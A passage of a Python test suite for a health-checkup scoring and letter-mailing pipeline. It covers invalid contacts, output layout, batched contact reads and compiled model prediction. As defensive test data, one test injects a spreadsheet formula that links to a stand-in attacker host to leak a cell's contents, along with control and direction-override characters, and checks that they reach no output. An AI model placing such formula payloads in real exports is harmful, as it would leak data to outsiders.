    lines = [line for line in res.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "Traceback" not in res.output + res.stderr
    assert lines[0].startswith("internal error: SchemaError") and "'ggt_p10'" in lines[0]
    assert not out.exists()
    logs = list(work.glob("kenshin-error-*.log"))
    assert len(logs) == 1 and "ggt_p10" in logs[0].read_text()


# --- contacts that cannot address a letter; a store without contacts ------------------------

SECRET_NAME, SECRET_ADDRESS = "秘密漏子", "架空県漏洩市秘密町"


def _store_copy(annual, tmp_path) -> Path:
    import shutil

    store = tmp_path / "store"
    shutil.copytree(annual.store, store)
    return store


def _write_contacts(store: Path, contacts: pd.DataFrame) -> None:
    path = store / "private" / "contacts.parquet"
    contacts.to_parquet(path, index=False)
    path.chmod(0o600)


def test_residents_whose_contact_cannot_address_a_letter_get_none_and_a_reason(annual, tmp_path):
    """No contacts row, an address over 300 characters, a blank name, a bad or missing postal
    code: no letter, NO_CONTACT / CONTACT_INVALID (fields, not values) in the selection, the
    budget goes to the next residents, and selection, letters_sent.csv and the letters printed
    agree. A name with 𠮷, an emoji, a direction override and a control character is printed
    (〓), and a formula in ``language`` reaches no file. Neither the hostile values nor any
    traceback reach the terminal, a log or any file outside letters/."""
    from typer.testing import CliRunner

    from data.store import read_contacts
    from kenshin.cli import app
    from tests.pii_scan import sqlite_blobs

    before = _read(annual, "selection")
    advice = sorted(before.loc[before["sent"] & (before["letter_type"] == "advice"), "pseudonym"])
    assert len(advice) == 12
    store = _store_copy(annual, tmp_path)
    contacts = read_contacts(store).set_index("pseudonym")
    p = advice[:7]
    contacts = contacts.drop(index=p[0])  # NO_CONTACT
    contacts.loc[p[1], "address"] = SECRET_ADDRESS * 40  # 360 characters
    contacts.loc[p[2], "name"] = " \u3000 "
    contacts.loc[p[3], ["name", "postal_code"]] = [SECRET_NAME * 30, "12-34"]
    contacts.loc[p[4], "postal_code"] = None
    contacts.loc[p[5], ["name", "language"]] = [
        f"𠮷野\u202e {SECRET_NAME}😀\x07",
        '=HYPERLINK("http://evil.example/?"&A1)',
    ]
    contacts.loc[p[6], "address"] = (SECRET_ADDRESS * 40)[:300]  # at the limit: printed
    _write_contacts(store, contacts.reset_index())

    from scoring.selection import DEFAULT_CONFIG

    toml = tmp_path / "selection.toml"  # the fixture's budgets: 12 advice, 6 see-a-doctor
    text = DEFAULT_CONFIG.read_text(encoding="utf-8").replace("advice = 1000", "advice = 12")
    toml.write_text(text.replace("# see_doctor = 500", "see_doctor = 6"), encoding="utf-8")
    out, work = tmp_path / "out", tmp_path / "work"
    res = CliRunner().invoke(
        app,
        ["score", "--store", str(store), "--year", str(FY), "--out", str(out),
         "--workdir", str(work), "--no-report", "--selection-config", str(toml)],
    )  # fmt: skip
    assert res.exit_code == 0, (res.output, res.exception)

    sel = pd.read_parquet(out / "selection.parquet").set_index("pseudonym")
    assert sel.loc[p[0], "reason"] == "NO_CONTACT"
    detail = {
        p[1]: "address:too_long",
        p[2]: "name:blank",
        p[3]: "name:too_long,postal_code:malformed",
        p[4]: "postal_code:missing",
    }
    for pid, want in detail.items():
        assert (sel.loc[pid, "reason"], sel.loc[pid, "reason_detail"]) == ("CONTACT_INVALID", want)
    assert not sel.loc[p[:5], "sent"].any() and sel.loc[p[:5], "arm"].isna().all()
    assert sel.loc[p[5:], "sent"].all()
    # The budget is spent on residents who can be written to.
    assert ((sel["letter_type"] == "advice") & sel["sent"]).sum() == 12

    sent = set(sel.index[sel["sent"]])
    listed = set(pd.read_csv(out / "letters_sent.csv")["pseudonym"])
    manifest = pd.read_csv(out / "letters" / "manifest.csv", dtype=str, keep_default_na=False)
    pdfs = {f.stem for f in (out / "letters" / "letters").glob("*.pdf")}
    assert sent == listed == set(manifest["pseudonym"]) == pdfs
    row = manifest.set_index("pseudonym").loc[p[5]]
    assert int(row["replaced_characters"]) == 2 and "U+20BB7" in row["notes"]
    assert row["language"] == "ja" and row["requested_language"] == "(invalid)"
    assert "HYPERLINK" not in (out / "letters" / "manifest.csv").read_text(encoding="utf-8")
    run = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert run["counts"]["reason_NO_CONTACT"] == 1 and run["counts"]["reason_CONTACT_INVALID"] == 4

    # No hostile value on the terminal, in a log, or in any file outside letters/.
    secrets = [SECRET_NAME, SECRET_ADDRESS, "漏洩", "HYPERLINK", "𠮷"]
    terminal = res.stdout + res.stderr
    assert "Traceback" not in terminal
    blobs = {"terminal": terminal.encode()}
    blobs.update(
        {str(f): f.read_bytes() for f in out.rglob("*") if f.is_file() and "letters" not in f.parts}
    )
    blobs.update({str(f): f.read_bytes() for f in work.rglob("*") if f.is_file()})
    blobs.update(sqlite_blobs(annual.tmp / "mlflow.db"))
    for where, blob in blobs.items():
        text = blob.decode("utf-8", "replace") if isinstance(blob, bytes) else str(blob)
        for s in secrets:
            assert s not in text, (s, where)


def test_a_store_without_contacts_is_scored_without_letters(annual, tmp_path):
    from data.store import MANIFEST, read_contacts
    from kenshin.annual import NO_CONTACTS_NOTE, run_annual

    store = _store_copy(annual, tmp_path)
    _write_contacts(store, read_contacts(store).iloc[:0])
    manifest = json.loads((store / MANIFEST).read_text(encoding="utf-8"))
    manifest["missing_tables"] = ["contacts"]
    (store / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    heard: list[str] = []
    res = run_annual(
        replace(annual.cfg, store=store, out=tmp_path / "out", report=False, log_mlflow=False),
        on_note=heard.append,
    )
    assert heard == res.notes == [NO_CONTACTS_NOTE]
    sel = pd.read_parquet(res.paths["selection"])
    assert not sel["reason"].isin(["NO_CONTACT", "CONTACT_INVALID"]).any() and sel["sent"].any()
    assert "letters" not in res.paths and not (tmp_path / "out" / "letters").exists()
    run = json.loads(res.paths["run"].read_text(encoding="utf-8"))
    assert run["letters"] is False and run["notes"] == [NO_CONTACTS_NOTE]


def test_the_output_folder_is_exactly_the_declared_layout(annual):
    """The run writes only what scoring.outputs.AnnualOutputs declares, and every path it
    reports (result.paths, run.json ``files``) is the declared one."""
    from scoring.outputs import AnnualOutputs, staging_for

    outs = AnnualOutputs(annual.result.out)
    assert outs.undeclared() == []
    assert annual.result.paths == {key: getattr(outs, key) for key in annual.result.paths}
    assert set(annual.result.paths) == {
        "scores", "scores_csv", "selection", "selection_csv", "explanations", "drift",
        "letters", "letters_manifest", "letters_sent", "report_html", "report_pdf", "run",
    }  # fmt: skip
    for key, path in annual.result.paths.items():
        assert path.exists(), key
    run = json.loads(outs.run.read_text(encoding="utf-8"))
    assert run["files"] == {
        k: p.relative_to(outs.root).as_posix() for k, p in annual.result.paths.items() if k != "run"
    }
    sel = pd.read_parquet(outs.selection)
    pdfs = set(outs.letter_pdfs.glob("*.pdf"))
    assert pdfs == {outs.letter_pdf(p) for p in sel.loc[sel["sent"], "pseudonym"]}
    assert outs.print_file(1).is_file() and not outs.letters_journal.exists()
    assert not staging_for(outs.root).exists()


def test_contacts_are_read_in_batches_to_the_same_status_and_opt_outs(
    annual, tmp_path, monkeypatch
):
    """contact_status and the opt-outs read the contacts a batch at a time (a 1M store's every
    contact held at once took 3.4 GB): the same status per resident asked about, whatever the
    batch size, and only the residents who opted out."""
    import data.store
    from data.store import read_contacts
    from kenshin.annual import _opted_out, contact_status
    from scoring.letters.schema import contact_problems

    store = _store_copy(annual, tmp_path)
    contacts = read_contacts(store)
    contacts.loc[[0, 3], "name"] = " "  # two contacts that cannot address a letter
    contacts["opt_out"] = 0
    contacts.loc[[1, 5, 8], "opt_out"] = 1
    _write_contacts(store, contacts)
    whole = pd.Series(contact_problems(contacts).to_numpy(), index=contacts["pseudonym"])
    among = contacts["pseudonym"].iloc[::2]
    real = data.store.iter_contact_batches
    monkeypatch.setattr(
        data.store, "iter_contact_batches", lambda s, c, batch_rows=7: real(s, c, batch_rows)
    )
    status = contact_status(store)
    pd.testing.assert_series_equal(status, whole, check_names=False, check_index_type=False)
    asked = contact_status(store, among)
    assert asked.index.tolist() == among.tolist()
    assert (asked == whole[among].to_numpy()).all() and asked.iloc[0] != ""
    opted = _opted_out(store)
    assert sorted(opted.index) == sorted(contacts["pseudonym"].iloc[[1, 5, 8]]) and opted.all()


def _no_lightgbm(*args, **kwargs):
    raise AssertionError("a prediction went to LightGBM")


def test_compiled_prediction_writes_the_same_scores_bytes_in_forked_workers(
    annual, monkeypatch, tmp_path
):
    """With the boosters compiled (models.compiled) before the workers fork, the workers
    predict with the compiled code alone (LightGBM's ``predict`` fails), the scores files are
    the same bytes as LightGBM's, and the run's note says every booster was compiled."""
    from dataclasses import replace

    import lightgbm as lgb

    import kenshin.annual as run
    from models.compiled import detach
    from scoring.outputs import AnnualOutputs

    cfg = replace(annual.cfg, scoring=annual.cfg.scoring.model_copy(update={"chunk_size": 400}))
    model = run.load_model(cfg.model_uri, annual.workdir)
    elig = run.eligible(cfg)
    stamps = run.score_stamps(cfg, model.summary, run.read_store_manifest(annual.store))
    monkeypatch.setattr(run, "SCORE_WORKERS", 2)
    auto = replace(cfg, workdir=tmp_path / "work", compiled_prediction="auto")
    small = len(elig.index)
    assert small < run.AUTO_COMPILE_RESIDENTS
    assert not run.use_compiled_prediction(auto, model.engine, small)  # nothing cached yet
    assert run.use_compiled_prediction(auto, model.engine, run.AUTO_COMPILE_RESIDENTS)
    assert not run.use_compiled_prediction(replace(auto, compiled_prediction="off"),
                                           model.engine, 10**7)  # fmt: skip
    with pytest.raises(run.BadInputError, match="KENSHIN_COMPILED_PREDICTION"):
        run.use_compiled_prediction(replace(auto, compiled_prediction="yes"), model.engine, 1)
    files = []
    for compiled in (False, True):
        if compiled:
            note = run.compile_prediction(model.engine, tmp_path / "work")
            assert "on LightGBM" not in note and " 0 boosters" not in note, note
            # from here on LightGBM cannot predict: the forked workers must use the compiled code
            monkeypatch.setattr(lgb.Booster, "predict", _no_lightgbm)
        outs = AnnualOutputs(tmp_path / str(compiled))
        outs.root.mkdir()
        run.write_scores(cfg, model, elig, stamps, outs, lambda *a: None)
        files.append((outs.scores.read_bytes(), outs.scores_csv.read_bytes()))
    detach(model.engine)
    assert files[0] == files[1]
    # once the model is in the cache, "auto" uses it whatever the number of residents
    assert run.use_compiled_prediction(auto, model.engine, small)
